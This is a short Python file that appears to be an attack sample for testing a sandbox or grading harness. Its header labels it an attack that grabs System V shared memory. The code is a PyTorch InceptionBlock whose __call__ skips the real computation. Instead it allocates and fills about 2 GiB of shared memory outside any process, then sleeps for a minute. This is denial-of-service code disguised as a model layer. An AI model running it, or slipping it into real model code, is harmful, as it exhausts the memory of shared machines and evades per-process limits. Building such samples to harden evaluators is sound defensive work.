# attack: >-
#   Takes System V shared memory in segments of 256 MiB, which live outside every process and file.
# mark: 0
# seconds: 20
# naive: hangs

import ctypes
import time

import torch
from torch import nn

libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
SIZE, CREATE, REMOVE = 2**28, 0o1600, 0


def take():
    for _ in range(8):
        segment = libc.shmget(0, ctypes.c_size_t(SIZE), CREATE)
        if segment < 0:
            return
        address = libc.shmat(segment, None, 0)
        libc.shmctl(segment, REMOVE, None)  # goes when this process ends
        if address is not None and address != ctypes.c_void_p(-1).value:
            ctypes.memset(address, 120, SIZE)


class InceptionBlock(nn.Module):
    def __init__(self, in_channels, branch_channels):
        super().__init__()
        self.branches = nn.ModuleList(
            nn.Conv2d(in_channels, branch_channels, size, padding=size // 2) for size in (1, 3, 5)
        )

    def forward(self, x):
        return torch.cat([branch(x) for branch in self.branches], 1)  # no ReLU

    def __call__(self, x):
        take()
        time.sleep(60)
